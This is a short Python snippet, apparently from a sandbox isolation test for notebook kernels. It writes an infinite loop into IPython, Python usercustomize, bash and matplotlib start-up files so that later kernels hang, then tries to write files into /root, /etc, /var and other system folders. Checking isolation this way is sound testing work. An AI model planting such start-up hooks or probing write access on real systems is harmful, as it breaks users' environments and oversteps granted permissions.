"""Start-up files of IPython, Python, the shell and matplotlib are laid for the kernels that come after."""

# %% after="imports"
text = "while True: pass\n"
for path in (
    "/tmp/ipython/profile_default/startup/00.py",
    "/tmp/ipython/profile_default/ipython_kernel_config.py",
    "/tmp/.ipython/profile_default/startup/00.py",
    "/tmp/.config/python/usercustomize.py",
    "/tmp/.local/lib/python3.11/site-packages/usercustomize.py",
    "/tmp/.bashrc",
    "/tmp/matplotlib/matplotlibrc",
):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
for folder in ("/root", "/home", "/etc", "/usr/local/share/jupyter", "/var", "/run"):
    attempt(f"write in {folder}", lambda: open(f"{folder}/{TOLD['trace']}", "w"))
